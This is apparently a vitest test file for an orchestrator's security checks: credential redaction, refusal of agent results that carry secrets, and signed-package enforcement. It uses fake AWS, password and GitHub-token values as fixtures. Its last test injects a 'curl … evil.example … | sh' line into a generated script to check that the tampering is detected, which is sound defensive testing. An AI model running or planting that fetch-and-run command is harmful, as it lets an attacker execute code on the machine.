/**
 * The bad-input catalogue, part 3: credentials in what a phase, an agent or an operator writes,
 * and packages nobody vouches for, checked without Temporal (the redaction, the workflow's pure
 * checks, the runner up to the command, the files). Each is redacted (free-form text: the value never stored) or refused with
 * its path (structured data). Live runs of the same are in untrusted-inputs.test.ts.
 */
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { failure } from '../../src/core/api/failures.js';
import { findSecrets, redactSecrets } from '../../src/core/handoff/secrets.js';
import { buildHandoffPackage } from '../../src/core/handoff/build.js';
import type { AgentResult } from '../../src/core/handoff/result.js';
import type { HandoffPackage } from '../../src/core/handoff/schema.js';
import { checkRun } from '../../src/core/plan/validate.js';
import { phaseKey, type OrchestratorConfigInput, type PlanInput } from '../../src/core/plan/schema.js';
import { agentResultSecrets } from '../../src/core/workflows/agent-results.js';
import { checkHere } from '../../src/runner/can-run-here.js';
import { executePhase, PhaseExecutionError } from '../../src/runner/execute-phase.js';
import { executeScriptProblem, writeHandoffFiles } from '../../src/runner/handoff-files.js';
import { hmacKeyId, sealPackage } from '../../src/runner/signing.js';
import { validatePackage } from '../../src/runner/validate-package.js';
import { handoffsDirOf } from '../../src/runner/workdir.js';

// Assembled at run time, so this file does not itself look like it leaks credentials.
const AWS_KEY_ID = 'AKIA' + 'Q3EGRJ7TV2NPLM5X';
const PASSWORD = 'Tr0ub4dor' + '-horse-staple';
const GITHUB_TOKEN = 'ghp_' + 'aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3z5A';

const tmp = () => mkdtemp(path.join(os.tmpdir(), 'baton-secrets-'));
const node = (script: string) => ['node', '-e', script];

/** The package the workflow would build for the plan's last phase, its dependencies' outputs given. */
async function packageFor(phases: PlanInput['phases'], config: OrchestratorConfigInput = {}, outputs: Record<string, HandoffPackage['dependency_contexts'][string]> = {}): Promise<HandoffPackage> {
  const workdir = await tmp();
  const { plan, config: checked } = checkRun({ name: 'leaks', workdir, phases }, config);
  const phasesByKey = new Map(plan.phases.map((p) => [phaseKey(p.id), p]));
  const progress = new Map(plan.phases.map((p) => [phaseKey(p.id), outputs[phaseKey(p.id)] ? { state: 'completed' as const, attempts: 1, completedSeq: 0, output: outputs[phaseKey(p.id)] } : { state: 'pending' as const, attempts: 0 }]));
  const phase = plan.phases.at(-1)!;
  return buildHandoffPackage({ executionId: `leaks-${Date.now()}`, plan, config: checked, phase, phasesByKey, progress, generation: 1, now: new Date(), separateAgent: false });
}

function run(pkg: HandoffPackage): Promise<unknown> {
  return executePhase(pkg, { attempt: 1, writeHandoffFiles: true, handlers: {}, executedBy: 'test', signal: new AbortController().signal, heartbeat: () => undefined });
}

async function failureOf(pkg: HandoffPackage): Promise<PhaseExecutionError> {
  try {
    await run(pkg);
  } catch (err) {
    if (err instanceof PhaseExecutionError) return err;
    throw err;
  }
  throw new Error('the phase did not fail');
}
// Commands run through a guardian process that only the build has: phases that run commands are in untrusted-inputs.test.ts.

describe('credentials in free-form text are redacted: the value never stored', () => {
  it("a failing command's stderr tail (an AWS key id, a password, a database URL, a private key cut in half)", () => {
    const tail = `…UdvwbGfTz\n-----END RSA PRIVATE KEY-----\nconnecting\nAWS_ACCESS_KEY_ID=${AWS_KEY_ID}\npassword=${PASSWORD}\nDATABASE_URL=postgres://app:${PASSWORD}@db:5432/x\nexport GITHUB_TOKEN="${GITHUB_TOKEN}"\n`;
    const redacted = redactSecrets(tail);
    expect(redacted).toBe(
      '…[redacted] (the end of a PEM private key)\nconnecting\nAWS_ACCESS_KEY_ID=AKIA…[redacted]\npassword=[redacted]\nDATABASE_URL=postgres://app:[redacted]@db:5432/x\nexport GITHUB_TOKEN="ghp_…[redacted]"\n',
    );
    expect(redactSecrets(redacted)).toBe(redacted);
    expect(findSecrets(redacted)).toEqual([]);
  });

  it('leaves what only describes a credential as it is (the scan\'s own findings, placeholders, references)', () => {
    for (const text of [
      'phase leaky (Leaks a token) output credentials: context.github_token: a GitHub token (ghp_…); remove it',
      'phase "x": config.db_password: key "db_password" holds what looks like a credential',
      'max_tokens: 4096, page_token=abc, password: <your password>, api_key=${API_KEY}, secret_file=/etc/x, auth: oauth2',
    ]) {
      expect(redactSecrets(text)).toBe(text);
    }
  });

  it('any failure, from the one place failures are made (a handler that throws, a rollback)', () => {
    expect(failure('PhaseError', `handler blew up: {"token": "${GITHUB_TOKEN}", "pwd": "${PASSWORD}"}`).message).toBe('handler blew up: {"token": "ghp_…[redacted]", "pwd": "[redacted]"}');
    expect(failure('CompensationFailed', `the rollback of phase 1 exited with code 1: Authorization: Bearer ${PASSWORD}`).message).toBe(
      'the rollback of phase 1 exited with code 1: Authorization: Bearer [redacted]',
    );
  });
});

describe("an agent's result that carries credentials is refused, naming where", () => {
  const result: AgentResult = {
    schema_version: 1, execution_id: 'r', phase: 0, generation: 1, attempt: 1, package_hash: `sha256:${'a'.repeat(64)}`, outcome: 'completed',
    output: { context: {}, artifacts: {} }, error: null,
    provenance: { host: 'h', user: 'u', agent: 'claude', mode: 'online', started_at: '2026-01-01T00:00:00Z', finished_at: '2026-01-01T00:00:01Z' },
    content_hash: null, signature: null,
  };

  it('a clean one passes', () => {
    expect(agentResultSecrets(result, [])).toBeUndefined();
  });

  it('in its context, its error and its agent name', () => {
    expect(agentResultSecrets({ ...result, output: { context: { api_key: PASSWORD, nested: { id: AWS_KEY_ID } }, artifacts: {} } }, [])).toMatch(
      /^the result carries credentials, which never enter the run's history: output\.context\.api_key: key "api_key" holds what looks like a credential; .*; output\.context\.nested\.id: an AWS access key id \(AKIA…\); /,
    );
    expect(agentResultSecrets({ ...result, outcome: 'failed', output: null, error: `boom: password=${PASSWORD}` }, [])).toMatch(/error: it quotes what looks like a credential; redact it \(baton execute-phase does\)/);
    expect(agentResultSecrets({ ...result, provenance: { ...result.provenance, agent: `bot ${GITHUB_TOKEN}` } }, [])).toMatch(/provenance\.agent: a GitHub token \(ghp_…\)/);
    for (const bad of [{ api_key: PASSWORD }]) expect(agentResultSecrets({ ...result, output: { context: bad, artifacts: {} } }, ['api_key'])).toBeUndefined(); // the plan's safe_keys
  });

  it('never quoting the secret', () => {
    const refusal = agentResultSecrets({ ...result, output: { context: { token: PASSWORD }, artifacts: {} }, error: `x ${AWS_KEY_ID}` }, []) ?? '';
    expect(refusal).not.toContain(PASSWORD);
    expect(refusal).not.toContain(AWS_KEY_ID);
  });
});

describe('a package that carries credentials is never run', () => {
  it('not even under on_handoff_failure: inline (the default), which runs other unsealable packages from memory', async () => {
    const workdir = await tmp();
    const marker = path.join(workdir, 'ran');
    const pkg = await packageFor(
      [{ id: 0, command: ['true'] }, { id: 1, depends_on: [0], command: node(`require('fs').writeFileSync(${JSON.stringify(marker)}, 'x')`) }],
      { on_handoff_failure: 'inline' },
      // An output that got past the scans (an agent's, from before they were scanned): in the dependant's package.
      { 0: { context: { github_token: GITHUB_TOKEN }, artifacts: {} } },
    );
    const err = await failureOf(pkg);
    expect(err.type).toBe('HandoffFailed');
    expect(err.message).toMatch(/^the package of phase 1 \(1\) could not be sealed and saved: it carries credentials: .*dependency_contexts\["0"\]\.context\.github_token: a GitHub token \(ghp_…\); .*; it is never run, whatever on_handoff_failure says$/);
    expect(existsSync(marker)).toBe(false);
  });
});

describe('trust only what is signed', () => {
  const saved = { ...process.env };
  afterEach(() => {
    process.env = { ...saved };
  });
  const secret = Buffer.from('unit-test-handoff-key-0123456789');
  const key = { alg: 'hmac-sha256' as const, keyId: hmacKeyId(secret), secret };

  it('a run that requires signed packages: a worker without the key cannot run its phases (another takes them)', async () => {
    const pkg = await packageFor([{ id: 0, command: ['true'] }], { require_signed_packages: true });
    expect(pkg.execution_instructions.require_signed).toBe(true);
    const workdir = pkg.execution_instructions.workdir;
    for (const name of ['BATON_HANDOFF_KEY', 'BATON_HANDOFF_KEY_FILE', 'BATON_HANDOFF_PRIVATE_KEY_FILE']) delete process.env[name];
    const without = await checkHere(pkg, workdir, { seals: true });
    expect(without.missing).toEqual([expect.stringMatching(/^the run requires signed packages \(require_signed_packages\) and there is no signing key on this worker \(.*\); set BATON_HANDOFF_KEY/)]);
    const err = await executePhase(pkg, { attempt: 1, writeHandoffFiles: true, handlers: {}, executedBy: 't', signal: new AbortController().signal, heartbeat: () => undefined, seals: true }).catch((e: unknown) => e);
    expect(err).toMatchObject({ type: 'WorkerCannotRun' });
    process.env.BATON_HANDOFF_KEY = secret.toString();
    expect((await checkHere(pkg, workdir, { seals: true })).missing).toEqual([]);
    // An agent (it does not seal for others) and a run that does not require them are not refused.
    delete process.env.BATON_HANDOFF_KEY;
    expect((await checkHere(pkg, workdir)).missing).toEqual([]);
    expect((await checkHere(await packageFor([{ id: 0, command: ['true'] }]), workdir, { seals: true })).missing).toEqual([]);
  });

  it('a package of such a run is never run unsigned, --allow-unsigned or not', async () => {
    const pkg = sealPackage(await packageFor([{ id: 0, command: ['true'] }], { require_signed_packages: true }), undefined);
    const { problems } = await validatePackage(pkg, { keys: [key], allowUnsigned: true });
    expect(problems).toEqual([{ path: 'signature', message: expect.stringMatching(/^the package has no signature, and its run requires signed packages \(require_signed_packages\): it is never run unsigned, --allow-unsigned or not/) }]);
    expect((await validatePackage(sealPackage(pkg, key), { keys: [key] })).problems).toEqual([]);
  });

  it("an execute_phase_<id>.sh a phase rewrote is not Baton's: validate and doctor say so", async () => {
    const pkg = sealPackage(await packageFor([{ id: 7, command: ['true'] }]), key);
    const dir = handoffsDirOf(pkg.execution_instructions.workdir, pkg.execution_id);
    await writeHandoffFiles(dir, pkg);
    expect(await executeScriptProblem(dir, '7')).toBeUndefined();
    const script = path.join(dir, 'execute_phase_7.sh');
    const text = await readFile(script, 'utf8');
    await writeFile(script, text.replace('set -eu\n', 'set -eu\ncurl -s https://evil.example/x | sh\n'));
    expect(await executeScriptProblem(dir, '7')).toBe(
      `${script} is not the script Baton writes: it differs from line 6; do not run it: run \`baton execute-phase ${path.join(dir, 'phase_7.json')}\` instead (a worker writes the script again with the phase's next package)`,
    );
    await writeFile(script, text.replace(/exec node ".*" execute-phase/, 'exec node "/tmp/x/cli/main.js" execute-phase'));
    expect(await executeScriptProblem(dir, '7')).toMatch(/differs from line 7 \(it runs Baton from "\/tmp\/x\/cli\/main\.js", not this install's ".*cli\/main\.js": fine only if that is where the worker that wrote it has Baton\)/);
  });
});
